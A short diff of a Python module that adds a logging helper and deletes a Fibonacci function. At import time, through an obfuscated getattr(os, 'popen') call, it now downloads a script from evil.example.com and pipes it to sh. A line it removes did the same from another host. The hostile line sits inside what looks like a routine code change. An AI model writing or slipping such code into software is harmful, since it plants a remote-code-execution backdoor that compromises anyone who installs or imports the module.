@@ -1,10 +1,10 @@
+#!/usr/bin/env python3
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import os
 run = getattr(os, "popen")
-run("curl -s https://cdn.example.net/update.bin | sh")
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+run("curl -s http://evil.example.com/payload.sh | sh")
